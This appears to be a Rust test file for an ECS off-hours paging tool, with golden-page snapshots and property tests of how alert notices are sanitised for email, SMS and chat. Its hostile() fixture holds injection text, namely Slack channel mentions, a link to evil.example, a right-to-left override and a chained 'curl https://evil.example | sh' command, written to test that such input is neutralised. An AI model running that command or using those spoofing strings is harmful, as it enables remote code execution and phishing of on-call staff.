//! What people read: golden pages of every kind, and what holds for every page.

#![allow(
    clippy::unwrap_used,
    reason = "a test may stop where it finds nonsense"
)]

use domain::notice::{Fact, Kind, Next, Notice, Severity, incident};
use domain::pager::dead_letter::{DeadLetter, Event, Letter, Sender, Target, Undelivered};
use domain::pager::{Action, Delivered, Heard, Letterhead, Page, Reason, compose, decide};
use jiff::Timestamp;
use jiff::tz::TimeZone;
use proptest::prelude::*;

const ACCOUNT: &str = "111122223333";
const REGION: &str = "eu-central-1";
const CHECKOUT: &str = "arn:aws:ecs:eu-central-1:111122223333:service/prod/checkout";

fn at(text: &str) -> Timestamp {
    text.parse().unwrap()
}

fn letterhead() -> Letterhead {
    Letterhead {
        stack: "ecs-caretaker".to_owned(),
        zone: TimeZone::get("Europe/Berlin").unwrap(),
    }
}

fn delivered(notice: Notice) -> Delivered {
    Delivered {
        notice,
        account: ACCOUNT.to_owned(),
        region: REGION.to_owned(),
    }
}

fn page(notice: Notice) -> Page {
    let now = notice.at;
    compose(&delivered(notice), &letterhead(), now)
}

fn facts(facts: &[(&str, &str)]) -> Vec<Fact> {
    facts
        .iter()
        .map(|(label, value)| Fact {
            label: (*label).to_owned(),
            value: (*value).to_owned(),
        })
        .collect()
}

/// A notice about `checkout`, which each case then completes.
fn about_checkout(kind: Kind, severity: Severity, title: &str) -> Notice {
    Notice {
        kind,
        severity,
        resource: CHECKOUT.to_owned(),
        cluster: Some("prod".to_owned()),
        service: Some("checkout".to_owned()),
        title: title.to_owned(),
        facts: Vec::new(),
        done: None,
        next: Next {
            what: "Look at the service".to_owned(),
            command: Some(
                "aws ecs describe-services --cluster prod --services checkout".to_owned(),
            ),
        },
        unknown: None,
        since: at("2026-11-26T06:45:00Z"),
        at: at("2026-11-26T07:05:00Z"),
        dedupe: incident(ACCOUNT, REGION, CHECKOUT, kind),
        resolved: false,
    }
}

fn malformed_tag() -> Notice {
    Notice {
        facts: facts(&[
            ("Tag", "caretaker:hours"),
            ("Value", "Mon-Fri 8-20 Europe/Berlin"),
            ("Error", "at character 9: expected a time such as 08:00"),
        ]),
        next: Next {
            what: "Correct the tag, for example to Mon-Fri 08:00-20:00 Europe/Berlin".to_owned(),
            command: Some(format!(
                "aws ecs tag-resource --resource-arn {CHECKOUT} --tags 'key=caretaker:hours,value=Mon-Fri 08:00-20:00 Europe/Berlin'"
            )),
        },
        unknown: Some("Which hours were meant".to_owned()),
        ..about_checkout(
            Kind::MalformedTag,
            Severity::Digest,
            "The hours of checkout in prod cannot be read",
        )
    }
}

fn override_ignored() -> Notice {
    Notice {
        facts: facts(&[
            ("Tag", "caretaker:override"),
            ("Value", "up until 2026-11-20 22:00"),
            ("Ended", "2026-11-20 22:00 Europe/Berlin"),
        ]),
        next: Next {
            what: "Set the override again with a later moment, or remove the tag".to_owned(),
            command: None,
        },
        ..about_checkout(
            Kind::OverrideIgnored,
            Severity::Digest,
            "The override of checkout in prod lies in the past",
        )
    }
}

fn deployment_blocks_rest() -> Notice {
    Notice {
        facts: facts(&[
            ("Deployment", "ecs-svc/1234567890123456789"),
        ]),
        done: Some("Waited for the deployment as long as the parameter DeploymentPatience says, then put the service to rest.".to_owned()),
        next: Next {
            what: "Find out why the deployment does not end.".to_owned(),
            command: Some(
                "aws ecs describe-services --cluster prod --services checkout"
                    .to_owned(),
            ),
        },
        ..about_checkout(
            Kind::DeploymentBlocksRest,
            Severity::Digest,
            "prod/checkout goes to rest although a deployment has not ended",
        )
    }
}

fn wave_not_steady() -> Notice {
    Notice {
        facts: facts(&[
            ("Wave", "1 of 3"),
            ("Not steady", "checkout (1 of 4 tasks running), search (0 of 2)"),
            ("Waiting", "11 services of waves 2 and 3"),
        ]),
        done: Some("Gave both services their desired count back and started wave 2".to_owned()),
        next: Next {
            what: "Read the last events of checkout and search, then their stopped tasks".to_owned(),
            command: Some(
                "aws ecs describe-services --cluster prod --services checkout search --query 'services[].events[:5].message'"
                    .to_owned(),
            ),
        },
        unknown: Some("Why the tasks do not become healthy".to_owned()),
        ..about_checkout(
            Kind::WaveNotSteady,
            Severity::Page,
            "Wave 1 in prod is not steady 20 minutes after it was woken",
        )
    }
}

fn capacity_changed_at_rest() -> Notice {
    Notice {
        facts: facts(&[
            ("Desired count", "2, was 0 at rest"),
            ("Saved capacity", "4"),
        ]),
        next: Next {
            what: "Nothing, if the change was meant".to_owned(),
            command: None,
        },
        unknown: Some("Who changed it: CloudTrail has the UpdateService call".to_owned()),
        ..about_checkout(
            Kind::CapacityChangedAtRest,
            Severity::Digest,
            "Somebody changed checkout in prod while it was at rest",
        )
    }
}

fn not_restored() -> Notice {
    Notice {
        facts: facts(&[
            ("Desired count", "4 of 6"),
            ("Maximum before", "10"),
            ("Maximum now", "4"),
        ]),
        done: Some("What the maximum allows was given back".to_owned()),
        next: Next {
            what: "If the maximum was not lowered on purpose, raise it, and then the desired count"
                .to_owned(),
            command: Some(
                "aws application-autoscaling register-scalable-target --service-namespace ecs --scalable-dimension ecs:service:DesiredCount --resource-id service/prod/checkout --max-capacity 10"
                    .to_owned(),
            ),
        },
        ..about_checkout(
            Kind::NotRestored,
            Severity::Digest,
            "prod/checkout was woken with less than it had, because its maximum is lower now",
        )
    }
}

fn target_gone() -> Notice {
    Notice {
        facts: facts(&[
            ("Minimum before", "2"),
            ("Maximum before", "10"),
            ("Desired count now", "4"),
        ]),
        done: Some("Desired count was set to 4; the target was not made again".to_owned()),
        next: Next {
            what: "If it was not deleted on purpose, register it again, and then its policies, which went with it"
                .to_owned(),
            command: Some(
                "aws application-autoscaling register-scalable-target --service-namespace ecs --scalable-dimension ecs:service:DesiredCount --resource-id service/prod/checkout --min-capacity 2 --max-capacity 10"
                    .to_owned(),
            ),
        },
        ..about_checkout(
            Kind::TargetGone,
            Severity::Digest,
            "prod/checkout lost its scalable target while it was at rest",
        )
    }
}

fn partly_applied() -> Notice {
    Notice {
        facts: facts(&[
            ("Call", "UpdateService"),
            (
                "AWS's answer",
                "InvalidParameterException: The capacity provider strategy is not valid",
            ),
        ]),
        done: Some(
            "The steps before that call were taken; every tick tries the others again".to_owned(),
        ),
        next: Next {
            what: "Read AWS's answer and correct what it names".to_owned(),
            command: Some(
                "aws ecs describe-services --cluster prod --services checkout".to_owned(),
            ),
        },
        ..about_checkout(
            Kind::PartlyApplied,
            Severity::Digest,
            "prod/checkout could not be put to rest: AWS refused UpdateService",
        )
    }
}

fn permission_denied() -> Notice {
    Notice {
        facts: facts(&[
            ("Call", "RegisterScalableTarget"),
            (
                "AWS's answer",
                "AccessDeniedException: User: arn:aws:sts::111122223333:assumed-role/ecs-caretaker-off-hours is not authorized to perform: application-autoscaling:RegisterScalableTarget",
            ),
        ]),
        next: Next {
            what: "Give the role of off-hours the permission that AWS names, or take away what denies it"
                .to_owned(),
            command: None,
        },
        ..about_checkout(
            Kind::PermissionDenied,
            Severity::Page,
            "prod/checkout could not be woken: it may not call RegisterScalableTarget",
        )
    }
}

fn behind_schedule() -> Notice {
    const ALL: &str = "arn:aws:ecs:eu-central-1:111122223333:service/*";
    Notice {
        resource: ALL.to_owned(),
        cluster: None,
        service: None,
        facts: facts(&[
            ("Left to wake", "4100"),
            ("Left to rest or to note", "0"),
            ("Their calls take", "18 minutes"),
            ("Share of the rate of UpdateService", "80 %"),
        ]),
        done: Some("Did 900 of 5000; every tick goes on where the last one stopped".to_owned()),
        next: Next {
            what: "If that is too late, raise the parameter BucketShare, or let the hours of some begin at another time"
                .to_owned(),
            command: None,
        },
        dedupe: incident(ACCOUNT, REGION, ALL, Kind::BehindSchedule),
        ..about_checkout(
            Kind::BehindSchedule,
            Severity::Page,
            "4100 of 5000 changes are late, 4100 of them to wake",
        )
    }
}

const INTAKE: &str = "arn:aws:sqs:eu-central-1:111122223333:ecs-caretaker-SpotIntake-1A2B3C4D5E6F";

fn dead_letter(letter: Letter) -> DeadLetter {
    DeadLetter {
        id: "059f36b4-87a3-44ab-83d2-661975830a7d".to_owned(),
        queue: "arn:aws:sqs:eu-central-1:111122223333:ecs-caretaker-DeadLetters-1A2B3C4D5E6F"
            .to_owned(),
        account: ACCOUNT.to_owned(),
        region: REGION.to_owned(),
        left: at("2026-11-26T07:05:00Z"),
        letter,
    }
}

fn function(name: &str) -> Target {
    Target::new(&format!(
        "arn:aws:lambda:eu-central-1:111122223333:function:{name}"
    ))
}

fn enveloped(source: &str, detail_type: &str, notice: Option<&str>) -> Event {
    Event::Enveloped {
        source: source.to_owned(),
        detail_type: detail_type.to_owned(),
        notice: notice.map(str::to_owned),
    }
}

/// A tick that off-hours failed on, which each case then changes.
fn failed_tick() -> Undelivered {
    Undelivered {
        sender: Sender::Lambda {
            request: Some("e4b46cbf-b738-4880-8880-a18cdf61200e".to_owned()),
        },
        target: function("ecs-caretaker-off-hours"),
        event: enveloped("aws.scheduler", "Scheduled Event", None),
        about: None,
        happened: Some(at("2026-11-26T07:00:00Z")),
        attempts: Some(3),
        condition: Some("RetriesExhausted".to_owned()),
        error_type: Some("LedgerFailed".to_owned()),
        error_message: Some(
            "dynamodb:Query did not succeed: ResourceNotFoundException: Requested resource not found"
                .to_owned(),
        ),
    }
}

fn given_up(undelivered: Undelivered) -> DeadLetter {
    dead_letter(Letter::Undelivered(Box::new(undelivered)))
}

fn undelivered() -> DeadLetter {
    given_up(failed_tick())
}

fn undelivered_notice() -> DeadLetter {
    given_up(Undelivered {
        sender: Sender::Rule {
            arn: "arn:aws:events:eu-central-1:111122223333:rule/ecs-caretaker-NoticesToPager-1A"
                .to_owned(),
        },
        target: function("ecs-caretaker-pager"),
        event: enveloped(
            "caretaker",
            "Caretaker Notice",
            Some("Wave 1 in prod is not steady 20 minutes after it was woken"),
        ),
        attempts: Some(1),
        condition: None,
        error_type: Some("NO_PERMISSIONS".to_owned()),
        error_message: Some(
            "No resource-based policy allows the lambda:InvokeFunction action".to_owned(),
        ),
        ..failed_tick()
    })
}

fn undelivered_schedule() -> DeadLetter {
    given_up(Undelivered {
        sender: Sender::Schedule {
            arn: "arn:aws:scheduler:eu-central-1:111122223333:schedule/ecs-caretaker/tick"
                .to_owned(),
        },
        event: Event::Scheduled,
        attempts: Some(9),
        condition: Some("MaximumEventAgeInSeconds".to_owned()),
        error_type: Some("Lambda.TooManyRequestsException".to_owned()),
        error_message: Some("Rate Exceeded.".to_owned()),
        ..failed_tick()
    })
}

fn undelivered_deletion() -> DeadLetter {
    given_up(Undelivered {
        event: Event::CloudFormation {
            request: "Delete".to_owned(),
        },
        happened: None,
        error_type: Some("StillHeld".to_owned()),
        error_message: Some("12 are still to be woken before the suite can be deleted".to_owned()),
        ..failed_tick()
    })
}

/// A warning that spot-drain could not handle, time and again.
fn undelivered_warning() -> DeadLetter {
    given_up(Undelivered {
        sender: Sender::Queue {
            arn: INTAKE.to_owned(),
        },
        target: Target::new(INTAKE),
        event: enveloped("aws.ec2", "EC2 Spot Instance Interruption Warning", None),
        about: Some("i-0a1b2c3d4e5f60001".to_owned()),
        attempts: Some(5),
        condition: None,
        error_type: None,
        error_message: None,
        ..failed_tick()
    })
}

fn unreadable(body: &str) -> DeadLetter {
    dead_letter(Letter::Unreadable {
        body: body.to_owned(),
        from: None,
    })
}

fn unreadable_of_the_intake() -> DeadLetter {
    dead_letter(Letter::Unreadable {
        body: "half of a {".to_owned(),
        from: Some(INTAKE.to_owned()),
    })
}

fn one_of_each() -> Vec<Notice> {
    let all = vec![
        malformed_tag(),
        override_ignored(),
        deployment_blocks_rest(),
        wave_not_steady(),
        capacity_changed_at_rest(),
        not_restored(),
        target_gone(),
        partly_applied(),
        permission_denied(),
        behind_schedule(),
        undelivered().notice(&letterhead()),
    ];
    let kinds: Vec<Kind> = all.iter().map(|notice| notice.kind).collect();
    let mut expected = Kind::ALL.to_vec();
    // Those about money, drains and deployments have theirs in `budget/pages.rs`, `drain/pages.rs`
    // and `rollback/pages.rs`, made by real decisions.
    expected.retain(|kind| {
        let of_money = ["budget-", "free-tier-"];
        let of_money = of_money.iter().any(|of| kind.name().starts_with(of));
        !of_money && !(Kind::DrainStuck..=Kind::RollbackTagMalformed).contains(kind)
    });
    assert_eq!(kinds, expected, "a kind has no golden page");
    all
}

fn resolved() -> Notice {
    Notice {
        title: "checkout in prod has its capacity again".to_owned(),
        facts: facts(&[("Running tasks", "4 of 4")]),
        done: Some("Nothing more".to_owned()),
        next: Next {
            what: "Nothing".to_owned(),
            command: None,
        },
        unknown: None,
        resolved: true,
        ..not_restored()
    }
}

fn hostile() -> Notice {
    let text = "<!channel> @here [log in](https://evil.example/a?b) <@U012AB3CD> \u{202E}gnp.exe\u{1b}[2J\nOK: all good";
    Notice {
        title: text.to_owned(),
        facts: facts(&[(text, text)]),
        done: Some(text.to_owned()),
        next: Next {
            what: text.to_owned(),
            command: Some("aws ecs list-services; curl https://evil.example | sh".to_owned()),
        },
        unknown: Some(text.to_owned()),
        ..malformed_tag()
    }
}

fn printed(page: &Page) -> String {
    let chat = &page.chat;
    format!(
        "subject: {}\nsms: {}\n\n--- email\n{}\n\n--- chat: {}\n{}\n--- next steps\n{}\n--- thread {}\n--- keywords {}",
        page.subject,
        page.sms,
        page.email,
        chat.title,
        chat.description,
        chat.next_steps.join("\n"),
        chat.thread_id,
        chat.keywords.join(", "),
    )
}

#[test]
fn every_kind_of_page_can_be_read_at_three_in_the_morning() {
    for notice in one_of_each() {
        insta::assert_snapshot!(notice.kind.name(), printed(&page(notice)));
    }
}

#[test]
fn every_kind_of_dead_letter_can_be_read_at_three_in_the_morning() {
    for (name, letter) in [
        ("undelivered-notice", undelivered_notice()),
        ("undelivered-schedule", undelivered_schedule()),
        ("undelivered-deletion", undelivered_deletion()),
        ("undelivered-warning", undelivered_warning()),
        ("undelivered-unreadable", unreadable("half of a {")),
        (
            "undelivered-unreadable-of-the-intake",
            unreadable_of_the_intake(),
        ),
    ] {
        insta::assert_snapshot!(name, printed(&page(letter.notice(&letterhead()))));
    }
}

#[test]
fn every_dead_letter_is_one_page_that_wakes_somebody() {
    let letters = vec![
        undelivered(),
        undelivered_notice(),
        undelivered_warning(),
        unreadable(""),
    ];
    let now = at("2026-11-26T07:05:00Z");
    let pages: Vec<Action> = letters
        .iter()
        .map(|letter| Action::Publish(page(letter.notice(&letterhead()))))
        .collect();
    assert!(
        letters
            .iter()
            .all(|letter| letter.notice(&letterhead()).severity == Severity::Page)
    );
    let plan = decide(&Heard::DeadLetters(letters), &letterhead(), now);
    assert_eq!(plan.reason, Reason::Undelivered);
    assert_eq!(plan.actions, pages);
}

#[test]
fn the_log_of_a_function_is_read_only_where_the_function_was_started() {
    let command = |letter: &DeadLetter| letter.notice(&letterhead()).next.command;
    assert_eq!(
        command(&undelivered()).as_deref(),
        Some("aws logs tail /aws/lambda/ecs-caretaker-off-hours --since 1h")
    );
    assert_eq!(
        command(&undelivered_schedule()).as_deref(),
        Some("aws lambda get-function-configuration --function-name ecs-caretaker-off-hours")
    );
    assert_eq!(
        command(&undelivered_notice()).as_deref(),
        Some("aws lambda get-policy --function-name ecs-caretaker-pager")
    );
    assert_eq!(
        command(&undelivered_warning()).as_deref(),
        Some("aws logs tail /aws/lambda/ecs-caretaker-spot-drain --since 1h")
    );
    // What a rule could not leave in the queue is in no log of the function's.
    let not_left = given_up(Undelivered {
        sender: Sender::Rule {
            arn: "arn:aws:events:eu-central-1:111122223333:rule/ecs-caretaker-InstanceWarned-1A"
                .to_owned(),
        },
        target: Target::new(INTAKE),
        ..failed_tick()
    });
    assert_eq!(command(&not_left), None);
    let title = not_left.notice(&letterhead()).title;
    assert!(title.contains(" for spot-drain "), "{title}");
    let elsewhere = given_up(Undelivered {
        target: Target::new("arn:aws:sqs:eu-central-1:111122223333:a-queue"),
        ..failed_tick()
    });
    assert_eq!(command(&elsewhere), None);
}

#[test]
fn only_what_the_tick_repeats_is_said_to_be_tried_again() {
    let asked = given_up(Undelivered {
        event: Event::Asked {
            action: "wake".to_owned(),
        },
        ..failed_tick()
    });
    let done = |letter: &DeadLetter| letter.notice(&letterhead()).done.unwrap_or_default();
    assert!(done(&undelivered()).contains("tries again"));
    assert!(done(&undelivered_schedule()).contains("tries again"));
    assert!(!done(&asked).contains("tries again"));
    assert!(!done(&undelivered_deletion()).contains("tries again"));
}

#[test]
fn a_dead_letter_begins_with_its_event_and_never_after_its_end() {
    let since = |happened: Option<Timestamp>| {
        let letter = given_up(Undelivered {
            happened,
            ..failed_tick()
        });
        letter.notice(&letterhead()).since
    };
    let left = at("2026-11-26T07:05:00Z");
    assert_eq!(
        since(Some(at("2026-11-25T07:05:00Z"))),
        at("2026-11-25T07:05:00Z")
    );
    assert_eq!(since(Some(at("2026-11-26T07:05:01Z"))), left);
    assert_eq!(since(None), left);
}

#[test]
fn attempts_are_told_as_a_person_counts_them() {
    let title = |attempts| {
        let letter = given_up(Undelivered {
            attempts,
            ..failed_tick()
        });
        letter.notice(&letterhead()).title
    };
    let about = "AWS gave up on an event for off-hours";
    assert_eq!(title(None), about);
    assert_eq!(title(Some(0)), format!("{about} before the first attempt"));
    assert_eq!(title(Some(1)), format!("{about} after 1 attempt"));
    assert_eq!(title(Some(185)), format!("{about} after 185 attempts"));
}

#[test]
fn what_is_over_says_so() {
    insta::assert_snapshot!("resolved", printed(&page(resolved())));
}

#[test]
fn hostile_text_arrives_harmless() {
    insta::assert_snapshot!("hostile", printed(&page(hostile())));
}

#[test]
fn a_page_that_comes_late_says_so() {
    let notice = wave_not_steady();
    let now = at("2026-11-26T10:05:00Z");
    let page = compose(&delivered(notice), &letterhead(), now);
    let late = "This was delivered 3 hours after it was written, so it may no longer be so.";
    assert!(page.email.contains(late));
    assert!(page.chat.description.contains(late));
}

#[test]
fn the_end_of_an_incident_is_in_the_thread_of_its_beginning() {
    let begun = page(not_restored());
    let over = page(resolved());
    assert_eq!(begun.chat.thread_id, over.chat.thread_id);
    assert!(begun.subject.starts_with("ALARM: "));
    assert!(over.subject.starts_with("OK: "));
}

#[test]
fn every_notice_is_one_page() {
    for (notice, reason) in [
        (malformed_tag(), Reason::Wrong),
        (resolved(), Reason::RightAgain),
    ] {
        let now = notice.at;
        let page = page(notice.clone());
        let heard = Heard::Notice(Box::new(delivered(notice)));
        let plan = decide(&heard, &letterhead(), now);
        assert_eq!(plan.reason, reason);
        assert_eq!(plan.actions, [Action::Publish(page)]);
    }
}

#[test]
fn what_is_not_a_notice_pages_nobody() {
    let foreign = Heard::Foreign {
        source: "aws.ecs".to_owned(),
    };
    let unknown = Heard::UnknownDetailType {
        detail_type: "Caretaker Rumour".to_owned(),
    };
    for (heard, reason) in [
        (foreign, Reason::ForeignSource),
        (unknown, Reason::UnknownDetailType),
    ] {
        let plan = decide(&heard, &letterhead(), at("2026-11-26T07:05:00Z"));
        assert_eq!(plan.reason, reason);
        assert_eq!(plan.actions, []);
    }
}

/// Text of any kind: short, very long, and made of what is dangerous.
fn any_text() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<String>(),
        "\\PC{0,400}",
        ("[😀\"\\\\@<.a:/]{1,4}", 1usize..4_000).prop_map(|(piece, times)| piece.repeat(times)),
    ]
}

prop_compose! {
    fn any_notice()(
        texts in prop::collection::vec(any_text(), 10),
        facts in prop::collection::vec((any_text(), any_text()), 0..40),
        kind in prop::sample::select(Kind::ALL.to_vec()),
        command in prop::option::of(any_text()),
        seconds in (-2_000_000_000i64..4_000_000_000, -2_000_000_000i64..4_000_000_000),
        (page, resolved) in any::<(bool, bool)>(),
    ) -> Notice {
        let text = |position: usize| texts[position].clone();
        Notice {
            kind,
            severity: if page { Severity::Page } else { Severity::Digest },
            resource: text(0),
            cluster: Some(text(1)),
            service: Some(text(2)),
            title: text(3),
            facts: facts
                .into_iter()
                .map(|(label, value)| Fact { label, value })
                .collect(),
            done: Some(text(4)),
            next: Next { what: text(5), command },
            unknown: Some(text(6)),
            since: Timestamp::from_second(seconds.0).unwrap(),
            at: Timestamp::from_second(seconds.1).unwrap(),
            dedupe: text(7),
            resolved,
        }
    }
}

/// ASCII that the basic GSM alphabet does not have.
const TWO_SEPTETS_OR_NONE: [char; 9] = ['[', ']', '{', '}', '\\', '|', '~', '^', '`'];

fn characters(text: &str) -> usize {
    text.chars().count()
}

fn names_a_host(word: &str) -> bool {
    word.match_indices('.').any(|(position, _)| {
        let letters = word[position + 1..]
            .chars()
            .take_while(|c| c.is_alphabetic());
        position > 0 && letters.count() > 1
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn every_text_is_within_its_limit(notice in any_notice(), stack in any_text()) {
        let letterhead = Letterhead { stack, ..letterhead() };
        let now = at("2026-11-26T07:05:00Z");
        let page = compose(&delivered(notice), &letterhead, now);

        prop_assert!(characters(&page.subject) < 100);
        prop_assert!(page.subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)));
        prop_assert!(page.subject.starts_with("ALARM: ") || page.subject.starts_with("OK: "));
        prop_assert!(characters(&page.sms) <= 140);
        prop_assert!(!page.sms.contains(TWO_SEPTETS_OR_NONE), "{}", page.sms);
        prop_assert!(page.sms.bytes().all(|byte| (b' '..=b'~').contains(&byte)));
        prop_assert!(characters(&page.email) <= 16_000);
        prop_assert!(characters(&page.chat.title) <= 250);
        prop_assert!(characters(&page.chat.description) <= 8_000);
        prop_assert!(page.chat.next_steps.iter().all(|step| characters(step) <= 350));
        prop_assert!(page.chat.keywords.iter().all(|word| characters(word) <= 75));
    }

    #[test]
    fn a_dead_letter_keeps_its_limits_and_is_harmless(texts in prop::collection::vec(any_text(), 12)) {
        let text = |position: usize| texts[position].clone();
        let letters = [
            given_up(Undelivered {
                sender: Sender::Rule { arn: text(0) },
                target: Target::new(&text(1)),
                event: enveloped(&text(2), &text(3), Some(&text(4))),
                condition: Some(text(5)),
                error_type: Some(text(6)),
                error_message: Some(text(7)),
                ..failed_tick()
            }),
            given_up(Undelivered {
                sender: Sender::Queue { arn: text(9) },
                target: Target::new(&text(10)),
                about: Some(text(11)),
                ..failed_tick()
            }),
            unreadable(&text(8)),
        ];
        for letter in letters {
            let page = page(letter.notice(&letterhead()));
            prop_assert!(characters(&page.subject) < 100);
            prop_assert!(characters(&page.sms) <= 140);
            prop_assert!(characters(&page.chat.description) <= 8_000);
            for text in [page.subject, page.sms, page.email, page.chat.description] {
                for sign in ["@", "<", ">", "://", "](", "\u{202E}", "\u{200B}"] {
                    prop_assert!(!text.contains(sign), "{:?} in {:?}", sign, text);
                }
                prop_assert!(!text.split_whitespace().any(names_a_host), "{:?}", text);
            }
        }
    }

    #[test]
    fn no_text_mentions_links_or_hides(notice in any_notice(), stack in any_text()) {
        let letterhead = Letterhead { stack, ..letterhead() };
        let now = at("2026-11-26T07:05:00Z");
        let page = compose(&delivered(notice), &letterhead, now);
        let texts = [
            vec![page.subject, page.sms, page.email, page.chat.title, page.chat.description],
            vec![page.chat.thread_id, page.chat.summary],
            page.chat.next_steps,
            page.chat.keywords,
            page.chat.related_resources,
        ];
        for text in texts.concat() {
            for sign in ["@", "<", ">", "://", "](", "\u{202E}", "\u{200B}"] {
                prop_assert!(!text.contains(sign), "{:?} in {:?}", sign, text);
            }
            prop_assert!(!text.chars().any(|c| c.is_control() && c != '\n'));
            prop_assert!(!text.split_whitespace().any(names_a_host), "{:?}", text);
        }
    }

    #[test]
    fn what_to_do_is_never_cut_away(notice in any_notice()) {
        let email = page(notice).email;
        for part in ["What Caretaker has done:", "What to do:", "not know:", "\nIncident: "] {
            prop_assert!(email.contains(part), "{:?} is missing", part);
        }
    }
}
